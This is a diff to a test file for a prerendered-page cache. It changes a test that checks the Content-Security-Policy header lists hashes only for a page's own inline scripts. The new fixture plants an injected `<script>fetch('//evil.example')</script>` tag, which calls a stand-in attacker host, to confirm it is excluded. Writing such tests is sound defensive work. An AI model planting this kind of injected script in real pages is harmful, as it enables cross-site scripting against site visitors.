@@ -45,10 +45,14 @@ describe("the cache of prerendered pages", () => {
     expect(await cache.get("/b")).toBeNull();
   });
 
-  it("allows a page's inline scripts by their hashes and no others", async () => {
+  it("allows a page's own inline scripts by their hashes, and none that got into it", async () => {
     await pause();
-    const script = 'console.log("x")';
-    await put("/c", page(`<script src="/a.js"></script><script id="i">${script}</script>`, "menu"));
+    const script = 'self.__next_f.push([1,"x"])';
+    const injected = "<script>fetch('//evil.example')</script>";
+    await put(
+      "/c",
+      page(`<script src="/a.js"></script><script id="i">${script}</script>${injected}`, "menu"),
+    );
     const hash = createHash("sha256").update(script).digest("base64");
     expect((await cache.get("/c"))?.value.headers?.["content-security-policy"]).toBe(
       `script-src 'self' 'sha256-${hash}'`,
